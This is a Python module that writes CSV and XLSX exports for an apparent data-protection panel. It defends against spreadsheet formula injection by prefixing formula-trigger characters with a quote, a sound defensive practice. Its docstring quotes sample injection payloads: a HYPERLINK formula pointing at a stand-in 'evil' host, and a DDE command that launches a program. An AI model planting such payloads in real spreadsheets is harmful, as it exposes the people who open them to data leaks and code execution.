"""The one writer of every CSV and XLSX file the panel produces.

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return before one of them) as a formula. Text someone typed into
the public form or an officer's field would then run when an authority, the board or the
officer opens the file: ``=HYPERLINK("http://evil", "x")`` leaks data on a click,
``=cmd|' /C calc'!A0`` (DDE) starts a program in old Excel versions, and a plain ``=2+3``
silently replaces what the person wrote. So, following OWASP's CSV-injection guidance:

* **Text is neutralised** (``neutralise``): a string whose first character — or first
  character after leading white space — is one of ``= + - @``, a tab, a carriage return or a
  line feed (or the full-width ``＝ ＋ － ＠`` some spreadsheet locales also accept) gets a
  single quote in front. Every string, whatever its meaning: ``"-5"`` and the phone number
  ``"+77011234567"`` come out as ``'-5`` and ``'+77011234567``. The rule has no exception,
  so there is nothing to get wrong (an "it looks like a number" exception is how injection
  filters are usually bypassed). The text after the quote is exactly what was stored.
* **Numbers stay numbers**: ``int``, ``float`` (finite), ``Decimal`` and ``bool`` values are
  written as they are — a negative count is a number typed as one, not text, and is never a
  formula. Dates become ISO text; ``None`` an empty cell.
* **XLSX cells are text unless numeric by type**: openpyxl would turn a string starting with
  ``=`` into a formula cell and ``#N/A`` into an error cell; neutralised strings never start
  with ``=`` and error-code strings are forced to text (``data_type == "s"``), so no cell of
  a file written here is ever a formula.

CSV: UTF-8 with a byte-order mark (spreadsheets then read Cyrillic correctly), CRLF line ends,
the header first. XLSX: openpyxl's write-only mode (rows go to disk as they come), a bold
header row frozen below the top edge. No other module imports ``csv`` or ``openpyxl``
(``tests/test_exports_injection.py`` checks it), so a new export cannot bypass this one.

``WRITER_VERSION`` numbers the byte layout: version 1 is the writer before neutralisation,
kept (``legacy_v1_csv_bytes``/``legacy_v1_xlsx_bytes``) only so that a disclosure package
sent before the change can still be rebuilt byte for byte and matched against its recorded
SHA-256 (see ``services.disclosure_exports``). Nothing new is ever written with version 1.
"""

from __future__ import annotations

import csv
import io
import math
import re
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any, TextIO

#: Layout version of the files written here (1: before neutralisation; 2: neutralised).
WRITER_VERSION = 2
#: Characters that make a spreadsheet read a cell as a formula (OWASP: ``= + - @`` tab CR;
#: LF and the full-width forms are added because some programs accept them too).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
BOM = "\ufeff"
CRLF = "\r\n"
#: Strings openpyxl would store as error cells.
_ERROR_CODES = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))
_NUMBERS = (int, Decimal)  # bool is an int

Cell = str | int | float | Decimal | bool


def needs_neutralising(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula."""
    if not text:
        return False
    first = text[0]
    if first in FORMULA_TRIGGERS:
        return True
    if not first.isspace():
        return False
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def neutralise(value: Any) -> Cell:
    """The value as a cell: numbers by type unchanged, anything else text, quoted when it
    could be read as a formula (see the module docstring)."""
    if type(value) is str:  # the common case first: exports are mostly text
        return QUOTE + value if needs_neutralising(value) else value
    if value is None:
        return ""
    if isinstance(value, _NUMBERS):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else neutralise(str(value))
    if isinstance(value, datetime | date):
        value = value.isoformat()
    text = value if isinstance(value, str) else str(value)
    return QUOTE + text if needs_neutralising(text) else text


def neutralise_row(values: Iterable[Any]) -> list[Cell]:
    return [neutralise(v) for v in values]


# --- CSV -------------------------------------------------------------------------------------


class CsvWriter:
    """Rows to a text stream: every cell neutralised, CRLF line ends. Writes ``header`` first
    (pass ``None`` when continuing a file in batches). The byte-order mark is the caller's
    (``csv_chunks``/``csv_bytes`` add it), since a streamed file carries it once."""

    def __init__(self, out: TextIO, header: Sequence[Any] | None = None) -> None:
        self._writer = csv.writer(out, lineterminator=CRLF)
        self.count = 0
        if header is not None:
            self._writer.writerow(neutralise_row(header))

    def row(self, values: Iterable[Any]) -> None:
        self._writer.writerow(neutralise_row(values))
        self.count += 1

    def rows(self, rows: Iterable[Iterable[Any]]) -> int:
        for values in rows:
            self.row(values)
        return self.count


def csv_chunks(
    header: Sequence[Any], rows: Iterable[Iterable[Any]], *, batch: int = 2000
) -> Iterator[bytes]:
    """A whole CSV file (BOM, header, rows) in chunks of ``batch`` rows, for streaming."""
    buffer = io.StringIO()
    writer = CsvWriter(buffer, header)
    yield (BOM + buffer.getvalue()).encode("utf-8")
    buffer.seek(0)
    buffer.truncate()
    for values in rows:
        writer.row(values)
        if writer.count % batch == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue().encode("utf-8")


def csv_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """A whole CSV file (BOM, header, rows) in memory, for small tables."""
    return b"".join(csv_chunks(header, rows))


# --- XLSX ------------------------------------------------------------------------------------


class XlsxSheet:
    """One sheet of an ``XlsxBook``; rows are written as they come."""

    def __init__(self, sheet) -> None:
        self._sheet = sheet
        self.count = 0

    def _cells(self, values: Iterable[Any], font=None) -> list:
        from openpyxl.cell import WriteOnlyCell

        cells: list = []
        for value in values:
            cell_value = neutralise(value)
            if font is None and not (isinstance(cell_value, str) and cell_value in _ERROR_CODES):
                cells.append(cell_value)  # a plain str can no longer start with "="
                continue
            cell = WriteOnlyCell(self._sheet, value=cell_value)
            if isinstance(cell_value, str):
                cell.data_type = "s"
            if font is not None:
                cell.font = font
            cells.append(cell)
        return cells

    def bold_row(self, values: Iterable[Any]) -> None:
        from openpyxl.styles import Font

        self._sheet.append(self._cells(values, Font(bold=True)))

    def row(self, values: Iterable[Any]) -> None:
        self._sheet.append(self._cells(values))
        self.count += 1

    def rows(self, rows: Iterable[Iterable[Any]]) -> int:
        for values in rows:
            self.row(values)
        return self.count


class XlsxBook:
    """An openpyxl write-only workbook whose every cell goes through ``neutralise``.

    ``moment`` fixes the document's created/modified times (and, with ``reproducible=True``
    in ``to_bytes``, every zip entry's time), so the same rows give the same bytes."""

    def __init__(self, *, title: str = "", moment: datetime | None = None) -> None:
        from openpyxl import Workbook

        self._book = Workbook(write_only=True)
        self._moment = moment
        props = self._book.properties
        props.creator = "DPA Panel"
        props.lastModifiedBy = "DPA Panel"
        if title:
            props.title = title
        if moment is not None:
            naive = moment.astimezone(UTC).replace(tzinfo=None, microsecond=0)
            props.created = naive
            props.modified = naive

    def sheet(
        self,
        name: str,
        header: Sequence[Any] | None = None,
        *,
        widths: Sequence[float] | None = None,
        freeze_header: bool = True,
    ) -> XlsxSheet:
        """A new sheet: column widths, the header in bold (frozen unless told not to)."""
        from openpyxl.utils import get_column_letter

        raw = self._book.create_sheet(name[:31])
        for i, width in enumerate(widths or (), start=1):
            raw.column_dimensions[get_column_letter(i)].width = width
        if header is not None and freeze_header:
            raw.freeze_panes = "A2"
        sheet = XlsxSheet(raw)
        if header is not None:
            sheet.bold_row(header)
        return sheet

    def save(self, target: str | Path | IO[bytes]) -> None:
        self._book.save(str(target) if isinstance(target, Path) else target)

    def to_bytes(self, *, reproducible: bool = False) -> bytes:
        buffer = io.BytesIO()
        self._book.save(buffer)
        data = buffer.getvalue()
        if reproducible:
            if self._moment is None:
                raise ValueError("a reproducible workbook needs its moment")
            data = reproducible_xlsx(data, self._moment)
        return data


def xlsx_bytes(
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    sheet: str = "sheet",
    widths: Sequence[float] | None = None,
) -> bytes:
    """One sheet (bold frozen header, rows) as XLSX bytes, for small tables."""
    book = XlsxBook()
    book.sheet(sheet, header, widths=widths).rows(rows)
    return book.to_bytes()


#: Every zip entry of a reproducible file gets this timestamp (zip's epoch; no time zone).
_ZIP_TIME = (1980, 1, 1, 0, 0, 0)
_CORE_TIMES = re.compile(r"(<dcterms:(created|modified)[^>]*>)[^<]*(</dcterms:\2>)")


def reproducible_xlsx(data: bytes, moment: datetime) -> bytes:
    """Fixed docProps timestamps (``moment``) and zip entry times: same content, same bytes."""
    stamp = moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename == "docProps/core.xml":
                text = content.decode("utf-8")
                content = _CORE_TIMES.sub(
                    lambda m: f"{m.group(1)}{stamp}{m.group(3)}", text
                ).encode("utf-8")
            info = zipfile.ZipInfo(item.filename, date_time=_ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o600 << 16
            dst.writestr(info, content)
    return out.getvalue()


def auto_widths(header: Sequence[Any], rows: Sequence[Sequence[Any]]) -> list[float]:
    """Column widths from the longest (neutralised) text of each column, 6..60."""
    widths = []
    for i, name in enumerate(header):
        longest = max([len(str(neutralise(name))), *(len(str(neutralise(r[i]))) for r in rows)])
        widths.append(min(60, max(6, longest + 2)))
    return widths


# --- writer version 1 (frozen) ---------------------------------------------------------------
# The package writer as it was before neutralisation, byte for byte. Used only to rebuild a
# disclosure package that was sent with it, so its recorded SHA-256 can still be matched.


def legacy_v1_csv_bytes(columns: list[str], rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=CRLF)
    writer.writerow(columns)
    writer.writerows(rows)
    return (BOM + buffer.getvalue()).encode("utf-8")


def legacy_v1_xlsx_bytes(
    columns: list[str], rows: list[list[str]], moment: datetime, title: str
) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    ws.title = "package"
    ws.append(columns)
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for row in rows:
        ws.append(row)
    ws.freeze_panes = "A2"
    for i, name in enumerate(columns, start=1):
        width = max([len(name), *(len(r[i - 1]) for r in rows)] or [8])
        ws.column_dimensions[get_column_letter(i)].width = min(60, max(6, width + 2))
    naive = moment.astimezone(UTC).replace(tzinfo=None, microsecond=0)
    wb.properties.created = naive
    wb.properties.modified = naive
    wb.properties.creator = "DPA Panel"
    wb.properties.lastModifiedBy = "DPA Panel"
    wb.properties.title = title
    buffer = io.BytesIO()
    wb.save(buffer)
    return reproducible_xlsx(buffer.getvalue(), moment)


__all__ = [
    "BOM",
    "FORMULA_TRIGGERS",
    "WRITER_VERSION",
    "CsvWriter",
    "XlsxBook",
    "XlsxSheet",
    "auto_widths",
    "csv_bytes",
    "csv_chunks",
    "legacy_v1_csv_bytes",
    "legacy_v1_xlsx_bytes",
    "needs_neutralising",
    "neutralise",
    "reproducible_xlsx",
    "xlsx_bytes",
]
